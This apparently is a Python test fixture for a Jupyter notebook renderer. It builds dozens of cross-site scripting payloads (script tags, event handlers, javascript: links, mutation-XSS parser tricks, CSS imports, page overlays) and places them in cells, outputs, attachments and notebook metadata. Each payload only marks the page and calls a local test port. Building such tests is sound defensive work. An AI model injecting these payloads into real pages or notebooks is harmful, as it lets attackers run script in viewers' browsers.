"""What a student could put into a notebook to act in the browser of whoever looks at it."""

import json
from typing import Any

from tests.builders import Cell, code_cell, markdown_cell

__all__ = ["NOWHERE", "html_attacks", "markdown_attacks", "metadata", "places"]

# Nothing listens on this port.
NOWHERE = "http://127.0.0.1:9"


def script(server: str) -> str:
    """JavaScript that leaves a trace in the page and asks the server for `/ran`."""
    return f"document.documentElement.dataset.ran=1;fetch(`{server}/ran`)"


def html_attacks(server: str) -> list[str]:
    """HTML that runs a script, loads something from the server, or covers the page."""
    run = script(server)
    return [
        f"<script>{run}</script>",
        f'<ScRiPt src="{server}/script.js"></sCrIpT >',
        f'<script type="module" src="{server}/module.js">',
        f'<img src="x" onerror="{run}">',
        f"<img/src=x/onerror={run}>",
        f'<img src="{server}/image.png">',
        f'<img src="//{server.removeprefix("http://")}/relative.png">',
        f'<img src="x" srcset="{server}/srcset.png 1x">',
        f'<picture><source srcset="{server}/source.png"><img src="x"></picture>',
        f'<svg onload="{run}"><script>{run}</script><image href="{server}/svg.png"/></svg>',
        f'<svg><a xlink:href="javascript:{run}"><text y="20">svg link</text></a></svg>',
        f'<svg><animate onbegin="{run}" attributeName="x" dur="1s"></svg>',
        f'<iframe src="javascript:{run}"></iframe><iframe src="{server}/frame.html"></iframe>',
        f'<iframe srcdoc="&lt;script&gt;parent.{run}&lt;/script&gt;"></iframe>',
        f'<object data="{server}/object.html"></object><embed src="{server}/embed.html">',
        f'<video src="{server}/video.mp4" poster="{server}/poster.png" autoplay></video>',
        f'<audio src="{server}/audio.mp3" autoplay onerror="{run}"></audio>',
        f'<link rel="stylesheet" href="{server}/style.css"><link rel="icon" href="{server}/icon">',
        f'<style>@import "{server}/import.css"; body {{ background: url({server}/b.png) }}</style>',
        f'<meta http-equiv="refresh" content="0; url={server}/refresh.html">',
        f'<base href="{server}/base/">',
        f'<form action="{server}/form"><input name="a" autofocus onfocus="{run}"><button>Go',
        '<input class="score" id="written"><textarea class="comment" id="written-comment">',
        f'<details open ontoggle="{run}">',
        f'<a href="javascript:{run}">link</a><a href="jav&#x09;ascript:{run}">link</a>',
        f'<a href=" &#1; JavaScript:{run}">link</a><a href="data:text/html,{run}">link</a>',
        f'<a href="https://example.org" ping="{server}/ping" onclick="{run}">ping</a>',
        f'<div style="background-image: url({server}/style.png); color: url({server}/c)">a</div>',
        '<div style="position: fixed; inset: 0; z-index: 9999; margin: -9999px">cover</div>',
        '<div class="modal-backdrop navbar-fixed-top nbgrader_cell" id="notebook">cover</div>',
        f'<table background="{server}/table.png"><tr><td background="{server}/cell.png">a',
        f'</pre></div></div></div></body></html><script>{run}</script><body onload="{run}">',
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
        f'onerror={run}&gt;">',
        f'<noscript><p title="</noscript><img src=x onerror={run}>">',
        f'<title><a title="</title><img src=x onerror={run}>"></title>',
        f'<textarea><a title="</textarea><img src=x onerror={run}>"></textarea>',
        f"<template><script>{run}</script></template><xmp><script>{run}</script></xmp>",
        f"<!--><img src=x onerror={run}>--><![CDATA[<img src=x onerror={run}>]]>",
        f'<marquee onstart="{run}">a</marquee><dialog open>cover</dialog>',
        f'<p data-link="javascript:{run}" tabindex="1" class="tabbable" accesskey="x">a',
    ]


def markdown_attacks(server: str) -> list[str]:
    """All of HTML, and what only Markdown can do."""
    run = script(server).replace(" ", "")
    return [
        *html_attacks(server),
        f"[link](javascript:{run}) [link](<JAVASCRIPT:{run}>) [link][reference]\n\n"
        f"[reference]: javascript:{run}",
        f"![a picture]({server}/markdown.png) ![a picture][image]\n\n"
        f"[image]: {server}/reference.png",
        f"![a picture](javascript:{run}) ![a picture](data:text/html;base64,PHA+)",
        f"<javascript:{run}>",
        f'```"><script>{run}</script>\ncode\n```',
        f"```mermaid\n<script>{run}</script>\n```",
        f"$</script><script>{run}</script>$ $$<img src=x onerror={run}>$$",
        f"\\begin{{equation}}<script>{run}</script>\\end{{equation}}",
        "![a picture](attachment:page.html) ![a picture](attachment:vector.svg)",
        f'![a picture](attachment:quote.png "title" onerror="{run}")',
        f"# <img src=x onerror={run}>\n\n- [ ] <script>{run}</script>",
    ]


def places(server: str) -> dict[str, list[Cell]]:
    """Cells, by the place in them where the attacks are."""
    html = html_attacks(server)
    run = script(server)
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{run}</script></svg>'
    text = "\n".join(html)
    mimes = {
        "text/html": html,
        "text/markdown": markdown_attacks(server),
        "text/latex": [f"$${attack}$$" for attack in html] + html,
        "text/plain": html,
        "image/svg+xml": [svg, *html],
        "image/png": [f'x" onerror="{run}', f'"><script>{run}</script>'],
        "application/javascript": [run],
        "text/vnd.mermaid": html,
        "application/vnd.jupyter.widget-view+json": [{"model_id": f"<script>{run}</script>"}],
        "application/vnd.custom+json": [{"a": f"<script>{run}</script>"}],
        "application/pdf": html,
    }
    attributes = [
        {"width": f"1 onerror={run}", "height": f"1 onload={run}", "alt": f'" onerror="{run}'},
        {"filenames": {"image/png": f"{server}/filename.png"}},
        {"image/png": {"width": f"1 onerror={run}", "alt": f'"><script>{run}</script>'}},
    ]
    found = {
        "Markdown": [
            {**markdown_cell(attack, f"markdown-{number}"), "attachments": _attachments(server)}
            for number, attack in enumerate(markdown_attacks(server))
        ],
        "code": [code_cell(text, "code")],
        "stream": [_shows(_stream(name, text)) for name in ("stdout", "stderr")],
        "traceback": [_shows(_error([text, f"\x1b[31m{text}", f"\x1b[38;2;1;2;{run}m"]))],
        "metadata of a picture": [_shows(_data("image/png", "x", given)) for given in attributes],
        "isolated HTML": [_shows(_data("text/html", text, {"text/html": {"isolated": True}}))],
        "name of a file": [
            _shows(_data("image/svg+xml", svg) | {"svg_filename": f"{server}/filename.svg"})
        ],
        "raw cell": [
            {
                "cell_type": "raw",
                "id": f"raw{len(mime)}",
                "metadata": {"raw_mimetype": mime},
                "source": text,
            }
            for mime in ("", "text/html")
        ],
        "metadata of a cell": [
            {**code_cell("1", "cell"), "metadata": {"tags": html[:1], "magics_language": text}},
            code_cell("1", "id", {"grade": True, "solution": True, "points": 1, "grade_id": text}),
        ],
    }
    for mime, contents in mimes.items():
        found[mime] = [_shows(_data(mime, content)) for content in contents]
    return found


def metadata(server: str) -> dict[str, Any]:
    """Metadata of a notebook that nbconvert writes into pages."""
    attack = f'"><script>{script(server)}</script>'
    return {
        "title": attack,
        "kernelspec": {"name": "python3", "display_name": attack, "language": attack},
        "language_info": {"name": attack, "mimetype": attack, "pygments_lexer": attack},
        "widgets": {
            "application/vnd.jupyter.widget-state+json": {
                "state": {f"<script>{script(server)}</script>": {}},
                "version_major": 2,
                "version_minor": 0,
            }
        },
    }


def _shows(output: dict[str, Any]) -> Cell:
    digest = abs(hash(json.dumps(output)))
    return {**code_cell("show()", f"shows-{digest}"), "outputs": [output]}


def _stream(name: str, text: str) -> dict[str, Any]:
    return {"output_type": "stream", "name": name, "text": text}


def _error(traceback: list[str]) -> dict[str, Any]:
    attack = html_attacks(NOWHERE)[0]
    return {"output_type": "error", "ename": attack, "evalue": attack, "traceback": traceback}


def _data(mime: str, content: Any, given: dict[str, Any] | None = None) -> dict[str, Any]:
    return {"output_type": "display_data", "data": {mime: content}, "metadata": given or {}}


def _attachments(server: str) -> dict[str, dict[str, str]]:
    run = script(server)
    return {
        "page.html": {"text/html": "PHA+"},
        "vector.svg": {"image/svg+xml": f'"><svg onload="{run}">'},
        "quote.png": {"image/png": f'" onerror="{run}'},
    }
